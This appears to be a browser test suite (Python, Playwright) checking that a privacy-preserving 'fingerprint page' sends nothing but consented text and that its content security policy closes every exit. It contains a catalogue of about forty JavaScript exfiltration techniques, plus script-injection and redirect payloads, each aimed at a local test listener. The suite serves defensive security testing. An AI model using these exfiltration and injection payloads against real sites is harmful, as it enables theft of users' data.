"""P01: a file chosen on the fingerprint page never leaves the device.

In a real browser: an ordinary visit asks the network for nothing but the page, by the browser's own network log; after
a yes, exactly the text that was shown leaves, once, to one address; and code that got into the page all the same finds
the other ways out shut. Each way out is first shown to be one, from a page without a policy. Moving the window itself
elsewhere is outside what a policy can forbid; the last tests say so.
"""

import contextlib
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from email import message_from_bytes
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from tests.support.canary import forms
from tests.support.chromium import FLAGS, Pages, executable
from tests.support.fingerprint_page import Chosen, Listener, Served, choose, listener, say_adult, served
from tests.support.photo_films import made_film
from zaoguang.centre.fingerprint_page.building import fingerprint_page
from zaoguang.rehearsal.photographs import photographs

pytestmark = [pytest.mark.browser, pytest.mark.slow]

NAME = "canary-file-name-5b7e.jpg"
CONTENT = photographs()[0].content
FILM = made_film(shown=[1, 2])
CODE = "ABCD-EFGH-IJKL-MNOP-QRST-UVWX-YZ"


@pytest.fixture(scope="module")
def centre() -> Iterator[Served]:
    with served() as running:
        yield running


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    with listener() as listening:
        yield listening


def whole_visit(page: Page, address: str) -> str:
    page.goto(address)
    say_adult(page)
    lines = choose(page, Chosen(NAME, "image/jpeg", CONTENT), Chosen(f"{NAME}.mp4", "video/mp4", FILM))
    assert [json.loads(line)["kind"] for line in lines.splitlines()] == ["image", "video"]
    with page.expect_download() as saved:
        page.locator("#download").click()
    assert Path(saved.value.path()).read_text() == lines
    page.locator("#copy").click()
    page.locator("#told", has_text=re.compile(".+")).wait_for()
    return lines


def secrets(*values: str) -> list[bytes]:
    """Give what must be met nowhere: the file's name, pieces of the files, and these values, however written."""
    pieces = [whole[at : at + 24] for whole in (CONTENT, FILM) for at in range(0, len(whole) - 24, 997)]
    unseen: list[str | bytes] = [NAME, *values, *pieces]
    return [form for value in unseen for form in forms(value)]


def fingerprints(lines: str) -> list[str]:
    """Give every fingerprint and checksum in the lines."""
    return re.findall(r'"([0-9a-f]{64})"', lines)


@dataclass
class Watched:
    """A browser of its own with everything written down: what it asked for, and its own log of the network."""

    page: Page
    log: Path
    asked: list[str] = field(default_factory=list)

    def addresses(self) -> set[str]:
        """Give every address that was asked for, by anybody's account, but the page's own memory."""
        logged = re.findall(rb'"url":"((?:https?|wss?)://[^"]*)"', self.log.read_bytes())
        asked = [*self.asked, *(address.decode() for address in logged if b"127.0.0.1" in address)]
        # What is behind the "#" goes nowhere, and a blob is in the page's own memory.
        return {address.partition("#")[0] for address in asked if not address.startswith("blob:")}


@contextlib.contextmanager
def watched(browser: Browser, log: Path) -> Iterator[Watched]:
    flags = [*FLAGS, f"--log-net-log={log}", "--net-log-capture-mode=Everything"]
    own = browser.browser_type.launch(executable_path=executable(), args=flags)
    page = own.new_page()
    found = Watched(page, log)
    page.context.on("request", lambda request: found.asked.append(request.url))
    page.route("**/*", lambda route: route.continue_())  # what a route never sees cannot have been let through
    protocol = page.context.new_cdp_session(page)
    protocol.send("Network.enable")
    protocol.on("Network.requestWillBeSent", lambda event: found.asked.append(event["request"]["url"]))
    protocol.on("Network.webSocketCreated", lambda event: found.asked.append(event["url"]))
    yield found
    own.close()


def test_a_visit_asks_the_network_for_the_page_and_nothing_else(
    browser: Browser, centre: Served, tmp_path: Path
) -> None:
    centre.requests.clear()
    with watched(browser, tmp_path / "network.json") as found:
        lines = whole_visit(found.page, centre.address)
    assert found.addresses() == {centre.address}
    assert len(centre.requests) == 1
    assert centre.requests[0].startswith("GET /fingerprint/?")
    everything = found.log.read_bytes() + "".join(centre.requests).encode()
    assert centre.address.encode() in everything, "the log holds what was asked"
    assert [secret for secret in secrets(*fingerprints(lines)) if secret in everything] == []


def test_after_a_yes_exactly_the_shown_text_leaves_once_to_one_address(
    browser: Browser, centre: Served, tmp_path: Path
) -> None:
    centre.requests.clear()
    centre.bodies.clear()
    with watched(browser, tmp_path / "network.json") as found:
        lines = whole_visit(found.page, f"{centre.address}#{CODE}")
        assert found.page.url == centre.address, "the code does not stay in sight"
        assert found.page.locator("#code").input_value() == CODE
        button = found.page.get_by_role("button", name="Send", exact=True)
        button.click()  # without the yes
        found.page.locator("#sent", has_text="Nothing was sent").wait_for()
        assert centre.bodies == []
        found.page.locator("#yes").check()
        button.dblclick()
        found.page.get_by_text("received").wait_for()
    to = f"{centre.address}send/"
    assert found.addresses() == {centre.address, to}
    assert [request.split("?")[0] for request in centre.requests] == ["GET /fingerprint/", "POST /fingerprint/send/"]
    ((kind, body),) = centre.bodies
    sent = fields(kind, body)
    assert sent == {"lines": lines, "language": "en", "code": CODE, "yes": "yes"}
    outside = found.log.read_bytes() + "".join(centre.requests).encode()
    assert [secret for secret in secrets() if secret in outside + body] == []
    elsewhere = "".join(request.partition("} b")[0] for request in centre.requests)  # addresses and headers
    assert [secret for secret in secrets(*fingerprints(lines), CODE) if secret in elsewhere.encode()] == []
    assert "'HTTP_COOKIE'" not in elsewhere
    assert "'HTTP_REFERER'" not in elsewhere


def fields(kind: str, body: bytes) -> dict[str, str]:
    """Read a form as a browser sent it; a part with a file in it is a failure."""
    whole = message_from_bytes(f"Content-Type: {kind}\r\n\r\n".encode() + body)
    found = {}
    for part in whole.walk():
        if part.is_multipart():
            continue
        assert part.get_filename() is None
        value = part.get_payload(decode=True)
        assert isinstance(value, bytes)
        found[str(part.get_param("name", header="content-disposition"))] = value.decode().replace("\r\n", "\n")
    return found


def test_nothing_is_kept_in_the_browser(pages: Pages, centre: Served) -> None:
    page = pages.new()
    whole_visit(page, centre.address)
    assert page.context.cookies() == []
    state = page.context.storage_state(indexed_db=True)
    assert (state["cookies"], state["origins"]) == ([], [])
    # The page has no origin of its own, so that even code that got in finds no storage and no session.
    for store in ("localStorage", "sessionStorage", "document.cookie", "indexedDB.open('x')"):
        with pytest.raises(Error, match=r"SecurityError|sandboxed|denied"):
            page.evaluate(f"() => {{ {store}; }}")


def test_the_page_is_the_same_whoever_asks(centre: Served, pages: Pages) -> None:
    page = pages.new()
    logged_in = {"Cookie": f"zg_session={'s' * 32}; zg_language=en", "Accept-Language": "ko"}
    bare = page.request.get(centre.address)
    cookied = page.request.get(centre.address, headers=logged_in)
    assert bare.body() == cookied.body()
    assert "set-cookie" not in bare.headers
    assert "set-cookie" not in cookied.headers


WAYS_OUT = {
    "fetch": "await fetch(to + '/x?data')",
    "fetch without asking": "await fetch(to, {method: 'POST', mode: 'no-cors', body: 'data'})",
    "fetch when leaving": "await fetch(to, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'data'})",
    "beacon": "navigator.sendBeacon(to, 'data')",
    "old request": "const r = new XMLHttpRequest(); r.open('GET', to); r.send()",
    "socket": "new WebSocket(to.replace('http', 'ws'))",
    "event source": "new EventSource(to)",
    "image": "new Image().src = to",
    "image set": "put('img', {srcset: to + ' 1x'})",
    "svg image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${to}' width=9 height=9/></svg>`)",
    "style sheet": "put('link', {rel: 'stylesheet', href: to})",
    "import in a style": "put('style', {textContent: `@import '${to}';`})",
    "background": "document.body.style.backgroundImage = `url(${to})`",
    "cursor": "document.body.style.cursor = `url(${to}), auto`",
    "font": "await new FontFace('x', `url(${to})`).load()",
    "script": "put('script', {src: to})",
    "module": "await import(to)",
    "frame": "put('iframe', {src: to})",
    "object": "put('object', {data: to})",
    "embed": "put('embed', {src: to})",
    "film": "put('video', {src: to, autoplay: true, muted: true})",
    "poster": "put('video', {poster: to})",
    "sound": "put('audio', {src: to, preload: 'auto'})",
    "subtitles": "put('video', {}).innerHTML = `<track default src='${to}'>`",
    "film from a fetch": "put('video', {src: to + '/x.mp4', crossOrigin: 'anonymous', preload: 'auto'}).load()",
    "form": "Object.assign(put('form', {action: to, method: 'get'})).submit()",
    "form to a new window": "put('form', {action: to, method: 'post', target: '_blank'}).submit()",
    "manifest": "put('link', {rel: 'manifest', href: to})",
    "icon": "put('link', {rel: 'icon', href: to})",
    "prefetch": "put('link', {rel: 'prefetch', href: to})",
    "preload": "put('link', {rel: 'preload', as: 'fetch', href: to})",
    "preconnect": "put('link', {rel: 'preconnect', href: to})",
    "module preload": "put('link', {rel: 'modulepreload', href: to})",
    "speculation": "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [to]}]})})",
    "ping": "const a = put('a', {href: '#x', ping: to}); a.click()",
    "worker from a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
    "import in a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}')`])))",
    "new window": "window.open(to)",
    "link to a new window": "put('a', {href: to, target: '_blank'}).click()",
    "frame of another realm": "const f = put('iframe', {}); await f.contentWindow.fetch(to)",
    "frame from text": "put('iframe', {srcdoc: `<img src='${to}'>`})",
    "frame from a blob": "const b = new Blob([`<img src='${to}'>`], {type: 'text/html'});"
    "put('iframe', {src: URL.createObjectURL(b)})",
}
"""Code that got in tries to reach ``to``; ``put`` adds an element."""

TRY = """async to => {
  const put = (tag, parts) => document.body.appendChild(Object.assign(document.createElement(tag), parts));
  const run = async () => { CODE };
  await Promise.race([run(), new Promise(done => setTimeout(done, 1500))]).catch(() => null);
  await new Promise(done => setTimeout(done, 300));
}"""
"""Evaluated through the browser's own door for debuggers, which the page's policy on scripts does not bind."""

SHUT_BUT_NOT_SHOWN = {
    "manifest",
    "icon",
    "prefetch",
    "preload",
    "preconnect",
    "module preload",
    "speculation",
    "subtitles",
    "cursor",
}
"""A headless browser may put these off even without a policy; the test then has no control to compare with."""


A_CONNECTION_ONLY = {"frame", "preconnect", "form"}
"""Here Chromium connects before it asks the policy: the other side learns that somebody is there, and no more."""


def attempt(page: Page, code: str, to: str) -> None:
    page.evaluate(TRY.replace("CODE", code), to)


def test_attack_a_form_goes_to_no_other_address_of_the_centre_either(pages: Pages, centre: Served) -> None:
    page = pages.new()
    page.goto(centre.address)
    centre.requests.clear()
    for to in ("/login/", "/fingerprint/", "/fingerprint/sendx/"):
        attempt(page, "put('form', {action: to, method: 'post'}).submit()", to)
    assert centre.requests == []
    with contextlib.suppress(Error):  # this one does take the page away
        attempt(page, "put('form', {action: to, method: 'post'}).submit()", "/fingerprint/send/")
    page.get_by_text("received").wait_for()


def test_attack_the_form_of_a_copy_on_a_disk_reaches_no_network(
    pages: Pages, elsewhere: Listener, tmp_path: Path
) -> None:
    at = tmp_path / "fingerprint-page.html"
    at.write_bytes(fingerprint_page().content)
    page = pages.new()
    page.goto(at.as_uri())
    say_adult(page)
    assert page.locator("form, #code").count() == 0
    attempt(page, WAYS_OUT["form"], elsewhere.address)
    attempt(page, WAYS_OUT["fetch"], elsewhere.address)
    assert set(elsewhere.heard) <= {"a connection"}  # as with any form, before Chromium asks the policy
    pages.complaints.clear()  # of a file's address, and of the attempts


@pytest.mark.parametrize("way", WAYS_OUT)
def test_attack_code_in_the_page_finds_that_way_out_shut(
    way: str, browser: Browser, pages: Pages, centre: Served, elsewhere: Listener
) -> None:
    with listener() as open_page:
        free = browser.new_context(service_workers="block").new_page()
        free.goto(open_page.address)
        with contextlib.suppress(Error):  # where there is no policy, some of them take the page itself away
            attempt(free, WAYS_OUT[way], elsewhere.address)
        free.context.close()
    shown = bool(elsewhere.heard)
    assert shown or way in SHUT_BUT_NOT_SHOWN, "the attack does not work even without a policy"
    elsewhere.heard.clear()
    page = pages.new()
    page.goto(centre.address)
    say_adult(page)
    choose(page, Chosen(NAME, "image/jpeg", CONTENT))
    attempt(page, WAYS_OUT[way], elsewhere.address)
    let_through = {"a connection"} if way in A_CONNECTION_ONLY else set()
    assert set(elsewhere.heard) <= let_through
    pages.complaints[:] = [
        each for each in pages.complaints if elsewhere.address not in each and "to fetch" not in each
    ]
    assert page.url.partition("#")[0] == centre.address


@pytest.mark.parametrize(
    "code",
    [
        "put('script', {textContent: 'window.ran = 1'})",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
        "put('a', {href: 'javascript:window.ran = 1'}).click()",
        "setTimeout('window.ran = 1', 0)",
        "setTimeout(() => { try { eval('window.ran = 1') } catch {} }, 0)",
    ],
    ids=["script", "handler", "address", "timer", "eval"],
)
def test_attack_code_does_not_get_in_as_text(code: str, browser: Browser, pages: Pages, centre: Served) -> None:
    ran = "new Promise(done => setTimeout(() => done(window.ran === 1), 300))"
    with listener() as open_page:
        free = browser.new_context().new_page()
        free.goto(open_page.address)
        attempt(free, code, open_page.address)
        assert free.evaluate(ran), "the attack does not work even without a policy"
        free.context.close()
    page = pages.new()
    page.goto(centre.address)
    attempt(page, code, centre.address)
    assert not page.evaluate(ran)


def test_attack_a_call_between_browsers_is_not_there_to_be_made(pages: Pages, centre: Served) -> None:
    page = pages.new()
    page.goto(centre.address)
    gone = "['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'].filter(name => window[name] !== undefined)"
    assert page.evaluate(gone) == []
    page.evaluate("() => { try { delete window.RTCPeerConnection } catch {} }")
    assert page.evaluate(gone) == []


def test_the_page_cannot_be_framed(pages: Pages, centre: Served, elsewhere: Listener) -> None:
    page = pages.new()
    page.goto(elsewhere.address)
    attempt(page, "put('iframe', {src: to})", centre.address)
    assert all(frame.locator("#page").count() == 0 for frame in page.frames)


@pytest.mark.parametrize(
    "code",
    ["location.href = to + '/?data'", "put('meta', {httpEquiv: 'refresh', content: `0;url=${to}/?data`})"],
    ids=["location", "refresh"],
)
def test_limit_no_policy_keeps_code_that_got_in_from_moving_the_window(
    code: str, pages: Pages, centre: Served, elsewhere: Listener
) -> None:
    """What stands against it is that no code gets in; if this fails, the threat model may promise more."""
    page = pages.new()
    page.goto(centre.address)
    with contextlib.suppress(Error):  # the page that ran the code is gone
        attempt(page, code, elsewhere.address)
    assert "GET /?data" in elsewhere.heard
